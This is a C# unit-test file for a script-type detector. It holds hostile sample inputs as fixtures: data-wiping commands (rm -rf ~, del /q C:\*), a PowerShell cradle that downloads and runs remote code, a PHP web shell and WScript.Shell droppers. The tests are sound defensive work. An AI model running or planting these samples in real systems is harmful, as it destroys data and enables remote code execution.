using System.Text;
using Vigil.Mime.Model;
using static Vigil.Engine.Tests.Types.DetectorHarness;

namespace Vigil.Engine.Tests.Types;

public sealed class ScriptDetectionTests
{
    [Theory]
    [InlineData("#!/bin/sh\necho hi\n", "shell-script", "(sh)")]
    [InlineData("#!/bin/bash\nrm -rf ~\n", "shell-script", "(bash)")]
    [InlineData("#! /usr/bin/perl -w\nprint 1;\n", "perl-script", "Perl")]
    [InlineData("#!/usr/bin/env python3\nimport os\n", "python-script", "Python")]
    [InlineData("#!/usr/bin/env -S python3 -u\nimport os\n", "python-script", "Python")]
    [InlineData("#!/usr/bin/ruby\nputs 1\n", "ruby-script", "Ruby")]
    [InlineData("#!/usr/bin/env node\nconsole.log(1)\n", "node-script", "Node")]
    [InlineData("#!/usr/bin/tclsh\nputs 1\n", "script", "(tclsh)")]
    public void NamesTheInterpreterOfAnInterpreterLine(string text, string id, string inDescription)
    {
        var type = Detect(text);

        Assert.Equal(id, type.Id);
        Assert.Contains(inDescription, type.Description, StringComparison.Ordinal);
        Assert.Equal(ContentKind.Script, type.Kind);
    }

    [Fact]
    public void KeepsAHostileInterpreterNameShortAndPrintable()
    {
        var type = Detect("#!/x/" + new string('a', 200) + "\u0007\n");

        Assert.Equal("script", type.Id);
        Assert.True(type.Description.Length < 80);
    }

    [Fact]
    public void DetectsAnHtmlApplication()
    {
        const string hta = "<html><head><HTA:APPLICATION ID=\"x\" WINDOWSTATE=\"minimize\"></head><body></body></html>";

        Assert.Equal("hta", Detect(hta).Id);
    }

    [Fact]
    public void DetectsAWindowsScriptFile()
    {
        const string wsf = "<?xml version=\"1.0\"?>\n<job id=\"a\">\n<script language=\"JScript\">\nWScript.Echo(1);\n</script>\n</job>\n";

        Assert.Equal("wsf", Detect(wsf).Id);
    }

    [Fact]
    public void DetectsVbScriptDroppers()
    {
        const string vbs = "On Error Resume Next\r\nDim sh\r\nSet sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"cmd /c calc\", 0\r\n";

        var type = Detect(vbs);

        Assert.Equal("vbscript", type.Id);
        Assert.Equal(ContentKind.Script, type.Kind);
    }

    [Fact]
    public void DetectsJScriptDroppers()
    {
        const string js = "var sh = new ActiveXObject(\"WScript.Shell\");\nfunction go() { sh.Run(\"calc\"); }\ngo();\n";

        Assert.Equal("jscript", Detect(js).Id);
    }

    [Fact]
    public void DetectsAVbScriptWrittenInUtf16WithAByteOrderMark()
    {
        var bytes = Encoding.Unicode.GetPreamble().Concat(Encoding.Unicode.GetBytes("Set o = CreateObject(\"Scripting.FileSystemObject\")\r\nDim x\r\n")).ToArray();

        Assert.Equal("vbscript", Detect(bytes).Id);
    }

    [Theory]
    [InlineData("@echo off\r\ndel /q C:\\*\r\n")]
    [InlineData("\r\n@ECHO OFF\r\nstart calc.exe\r\n")]
    public void DetectsBatchFilesThatTurnEchoOff(string text)
    {
        Assert.Equal("batch", Detect(text).Id);
    }

    [Fact]
    public void DoesNotTakeMailThatMentionsEchoOffLaterForABatchFile()
    {
        Assert.Equal("text", Detect("Hi,\n\nput @echo off at the top of the file.\n").Id);
    }

    [Fact]
    public void DetectsPowerShellDownloadCradles()
    {
        const string ps = "$c = New-Object System.Net.WebClient\n$s = $c.DownloadString('http://x/a')\nInvoke-Expression $s\n";

        Assert.Equal("powershell", Detect(ps).Id);
    }

    [Fact]
    public void DetectsRegistryFilesAndUrlShortcuts()
    {
        Assert.Equal("reg", Detect("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\X]\r\n").Id);
        Assert.Equal("reg", Detect("REGEDIT4\r\n").Id);
        Assert.Equal("url-shortcut", Detect("[InternetShortcut]\r\nURL=file://evil/share/x.exe\r\n").Id);
    }

    [Fact]
    public void DetectsPhp()
    {
        Assert.Equal("php-script", Detect("<?php system($_GET['c']); ?>").Id);
    }

    [Fact]
    public void KeepsHtmlMailWithSomeJavaScriptAsHtml()
    {
        const string html = "<!DOCTYPE html>\n<html><head><script type=\"text/javascript\">function track(){ var i = new Image(); i.src='x'; }</script></head>"
            + "<body onload=\"track()\"><p>Newsletter</p><script>document.write('hi');</script></body></html>";

        var type = Detect(html);

        Assert.Equal("html", type.Id);
        Assert.Equal(ContentKind.Text, type.Kind);
    }

    [Fact]
    public void KeepsOldAjaxPagesWithXmlHttpActiveXAsHtml()
    {
        const string html = "<html><body><script>var x = new ActiveXObject(\"Microsoft.XMLHTTP\"); x.open('GET','/a');</script></body></html>";

        Assert.Equal("html", Detect(html).Id);
    }

    [Fact]
    public void FlagsHtmlThatCreatesWindowsShellObjects()
    {
        const string html = "<html><body><script>var s = new ActiveXObject(\"WScript.Shell\"); s.Run(\"calc\");</script></body></html>";

        var type = Detect(html);

        Assert.Equal("html-activex", type.Id);
        Assert.Equal(ContentKind.Script, type.Kind);
    }

    [Fact]
    public void KeepsAPlainJavaScriptLibraryAsText()
    {
        Assert.Equal("text", Detect("(function(){ var a = 1; function f(x){ return x + a; } window.f = f; })();\n").Id);
    }
}
